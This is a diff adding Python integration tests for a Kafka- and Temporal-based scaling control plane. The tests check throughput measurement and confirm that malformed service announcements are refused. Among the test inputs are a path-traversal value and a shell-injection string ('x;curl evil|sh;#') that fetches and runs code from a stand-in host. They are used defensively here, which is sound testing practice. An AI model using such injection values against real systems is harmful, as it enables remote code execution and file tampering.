@@ -1,0 +1,104 @@
+"""The control plane's measure and dispatch activities, with a real observer feed on the session's
+broker and the real Temporal dev server: what apps say on the observer topic becomes one
+``Measurement``, and a hostile announcement never stops the other services being evaluated."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+import uuid
+
+from aiokafka import AIOKafkaProducer
+
+from activities.control import ControlActivities
+from activities.lag import ConsumerLagReader
+from activities.observer import ObserverFeed
+from activities.partitions import PartitionAdmin
+from controller_harness import connect_temporal
+from fogverse.broker import ensure_topics
+from fogverse.contracts import DeployConfig, Heartbeat, ServicePair, ThroughputReport
+from fogverse.settings import ControllerSettings
+from workflows.messages import MeasureRequest, ServiceSpec, TickRequest, scaler_workflow_id
+
+
+async def send(producer: AIOKafkaProducer, topic: str, message) -> None:
+    raw = message if isinstance(message, bytes) else message.model_dump_json().encode()
+    await producer.send_and_wait(topic, raw)
+
+
+async def test_measure_counts_dead_letters_under_the_apps_dlq_suffix_and_reads_busy_time(kafka_bootstrap):
+    tag = uuid.uuid4().hex[:8]
+    observer, source, target = f"observer-{tag}", f"in-{tag}", f"out-{tag}"
+    await ensure_topics(kafka_bootstrap, {observer: 1, source: 2, target: 1})
+    settings = ControllerSettings.from_env({"KAFKA_BOOTSTRAP_SERVERS": kafka_bootstrap, "DLQ_SUFFIX": "-dead"})
+    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap)
+    await producer.start()
+    try:
+        async with ObserverFeed(kafka_bootstrap, observer, keep_s=60) as feed, \
+                ConsumerLagReader(kafka_bootstrap) as lag:
+            control = ControlActivities(settings, None, feed, lag, None, PartitionAdmin(kafka_bootstrap))
+            assert await feed.wait_caught_up(20)
+            for message in [
+                ThroughputReport(target_topic=source, total_messages=20, interval_s=1.0, service="feeder",
+                                 instance_id="feeder-1"),
+                ThroughputReport(target_topic=target, total_messages=6, interval_s=1.0, service="svc",
+                                 instance_id="svc-0"),
+                ThroughputReport(target_topic=source + "-dead", total_messages=4, interval_s=1.0, service="svc",
+                                 instance_id="svc-0"),
+                ThroughputReport(target_topic=source + ".dlq", total_messages=100, interval_s=1.0, service="svc",
+                                 instance_id="svc-0"),  # not this deployment's suffix: not its dead letters
+                Heartbeat(service="svc", instance_id="svc-0", interval_s=1.0, busy_s=0.5, handled=10),
+            ]:
+                await send(producer, observer, message)
+            spec = ServiceSpec("svc", source, target, f"group-{tag}")
+            request = MeasureRequest(spec, window_s=10, history_s=60, heartbeat_timeout_s=30)
+            for _ in range(50):
+                measured = await control.measure_service(request)
+                if measured.processing_rate is not None and measured.output_rate:
+                    break
+                await asyncio.sleep(0.1)
+            assert measured.input_rate == 20.0
+            assert measured.output_rate == 10.0, "6 produced + 4 dead-lettered under DLQ_SUFFIX=-dead"
+            assert measured.processing_rate == 20.0, "10 handled in 0.5 s of busy time"
+            assert measured.partitions == 2 and measured.partitions_growable is True
+            assert measured.live_instances == ["svc-0"] and measured.consuming == 1
+            assert abs(measured.measured_at - time.time()) < 5
+    finally:
+        await producer.stop()
+
+
+async def test_a_hostile_announcement_is_refused_and_the_other_services_are_still_evaluated(kafka_bootstrap,
+                                                                                              temporal_address):
+    tag = uuid.uuid4().hex[:8]
+    observer = f"observer-{tag}"
+    await ensure_topics(kafka_bootstrap, {observer: 1})
+    settings = ControllerSettings.from_env({"KAFKA_BOOTSTRAP_SERVERS": kafka_bootstrap,
+                                            "TEMPORAL_TASK_QUEUE": f"iso-{tag}"})
+    client = await connect_temporal(temporal_address)
+    good = f"good{tag}"
+    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap)
+    await producer.start()
+    try:
+        for service in ("x" * 1100, "../../../../tmp/evil", "x;curl evil|sh;#"):
+            await send(producer, observer, (
+                '{"kind": "service_pair", "source_topic": "analyze", "target_topic": "client", '
+                '"consumer_group": "g", "deploy_configs": {"max_instance": 9}, '
+                f'"service": "{service}", "instance_id": "x-1"}}').encode())
+        await send(producer, observer, ServicePair(source_topic=f"in-{tag}", target_topic=f"out-{tag}",
+                                                   consumer_group=f"g-{tag}", deploy_configs=DeployConfig(max_instance=2),
+                                                   service=good, instance_id=f"{good}-0"))
+        async with ObserverFeed(kafka_bootstrap, observer, keep_s=60) as feed:
+            control = ControlActivities(settings, client, feed, None, None, None)
+            assert await feed.wait_caught_up(20)
+            for _ in range(50):
+                if feed.ledger.pairs():
+                    break
+                await asyncio.sleep(0.1)
+            result = await control.dispatch_tick(TickRequest("evaluate"))
+            assert result.services == [good]
+            assert feed.refused == 3, "each hostile announcement refused at decode, counted"
+            handle = client.get_workflow_handle(scaler_workflow_id(good))
+            assert (await handle.describe()).workflow_type == "ServiceScaler"
+            await handle.terminate("test over")
+    finally:
+        await producer.stop()
